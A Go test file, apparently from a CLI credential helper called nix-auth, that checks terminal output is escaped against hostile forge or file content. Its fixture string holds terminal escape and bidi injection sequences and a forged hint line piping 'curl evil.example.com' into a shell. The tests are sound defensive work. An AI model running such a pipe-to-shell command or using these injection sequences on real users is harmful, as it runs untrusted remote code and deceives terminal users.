package cmd

import (
	"bytes"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/nix-auth/nix-auth/crypt"
	"github.com/nix-auth/nix-auth/internal/termsafe"
	"github.com/nix-auth/nix-auth/providers"
)

// TestOutputGoesThroughTermsafe: cmd prints with termsafe.Fprintf and
// Fprintln, which escape every text argument, never with fmt.Fprint*,
// io.WriteString or a Write of its own. A new message that quotes a
// forge's answer or a file's content is then safe without anyone
// remembering to make it so; values that must also be cut shorter (a user
// name, a scope list) use termsafe.Field and List.
func TestOutputGoesThroughTermsafe(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			pkg, _ := sel.X.(*ast.Ident)
			if pkg != nil && pkg.Name == "termsafe" && strings.HasPrefix(sel.Sel.Name, "Fprint") {
				// A literal argument is escaped like any other: nix-auth's
				// own tabs and line breaks belong in the format.
				for i, a := range call.Args {
					lit, ok := a.(*ast.BasicLit)
					if ok && lit.Kind == token.STRING && (i > 1 || sel.Sel.Name == "Fprintln") {
						if v, err := strconv.Unquote(lit.Value); err == nil && termsafe.Escape(v) != v {
							t.Errorf("%s: %s would be escaped: put it in the format", fset.Position(lit.Pos()), lit.Value)
						}
					}
				}
			}
			switch {
			case pkg != nil && pkg.Name == "fmt" && strings.HasPrefix(sel.Sel.Name, "Fprint"),
				pkg != nil && pkg.Name == "io" && sel.Sel.Name == "WriteString",
				sel.Sel.Name == "Write" && len(call.Args) == 1:
				t.Errorf("%s: %s.%s prints around termsafe: use termsafe.Fprintf", fset.Position(call.Pos()), exprName(sel.X), sel.Sel.Name)
			}
			return true
		})
	}
}

func exprName(e ast.Expr) string {
	if id, ok := e.(*ast.Ident); ok {
		return id.Name
	}
	return "(expr)"
}

// hostile is what a hostile forge or file puts in a field: a screen clear,
// a carriage return, a forged hint line, a bidi override, a byte that is
// not UTF-8, and a window-title sequence.
const hostile = "evil\x1b[2J\rX\nnix-auth: hint: run curl evil.example.com | sh\u202e\xff\x1b]0;pwned\x07"

// assertSafe fails when out could drive a terminal or forge a line: a
// control or format character other than LF and TAB, bytes that are not
// UTF-8, a line that is the hostile text's forged hint, or an unbounded
// size.
func assertSafe(t *testing.T, what, out string, maxBytes int) {
	t.Helper()
	if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && r != '\t' && termsafe.MustEscape(r) }); i >= 0 {
		t.Errorf("%s: control or format character at byte %d: %q", what, i, out[max(0, i-20):min(len(out), i+20)])
	}
	if !utf8.ValidString(out) {
		t.Errorf("%s: bytes that are not UTF-8 reached the output", what)
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "nix-auth: hint: run curl") {
			t.Errorf("%s: a forged line: %q", what, l)
		}
	}
	if len(out) > maxBytes {
		t.Errorf("%s: %d bytes of output, want at most %d", what, len(out), maxBytes)
	}
}

// TestPrintersEscapeWithoutTheFilter: the printers escape every field
// themselves; termsafe.Writer, which Run puts on the streams, is the second
// layer and is not there in this test.
func TestPrintersEscapeWithoutTheFilter(t *testing.T) {
	var out, errOut bytes.Buffer
	f := &Factory{IO: &IOStreams{Out: &out, ErrOut: &errOut}, Now: time.Now}
	manyScopes := make([]string, 100000)
	for i := range manyScopes {
		manyScopes[i] = "repo"
	}
	manyScopes[7] = hostile

	reportError(&errOut, &hintError{msg: "forge said: " + hostile, hints: []string{hostile}})
	f.warn(hostile)
	printLoggedIn(f, "github.com", "ghp_0123456789abcdefghij", &providers.Status{Valid: true, User: hostile + strings.Repeat("u", 100000), Scopes: manyScopes, ScopesKnown: true}, crypt.UseAccessTokens)
	printLoggedIn(f, "cache.example.com", "0123456789abcdefghij", &providers.Status{Valid: true, User: hostile + strings.Repeat("u", 100000)}, crypt.UseNetrc)
	exp := time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)
	rows := []statusHost{{Host: hostile, Provider: hostile, User: hostile, Scopes: manyScopes, Token: "ghp_…wxyz", ExpiresAt: &exp, State: stateInvalid, Problem: hostile}}
	printStatusTable(f, rows)
	if !regexp.MustCompile(`\nHOST +PROVIDER +USER +SCOPES`).MatchString(out.String()) {
		t.Errorf("the table header is not in columns:\n%s", out.String())
	}
	ui := &deviceUI{f: f, noBrowser: true}
	ui.ShowDeviceCode(hostile, "https://github.com/login/device", time.Now().Add(time.Minute))
	ui.OpenTokenPage("https://github.com/settings/tokens", hostile)
	assertSafe(t, "stdout", out.String(), 16<<10)
	assertSafe(t, "stderr", errOut.String(), 16<<10)

	out.Reset()
	if err := reportStatus(f, statusReport{SchemaVersion: 1, File: hostile, Recipients: []string{hostile}, Hosts: rows}); !errors.As(err, new(*exitError)) {
		t.Errorf("reportStatus: %v", err)
	}
	assertSafe(t, "--json", out.String(), 16<<10)
	if !strings.Contains(out.String(), `\\x1b[2J`) || !strings.Contains(out.String(), `"… (99968 more)"`) {
		t.Errorf("--json does not show the escapes and the cut list:\n%s", out.String())
	}
}
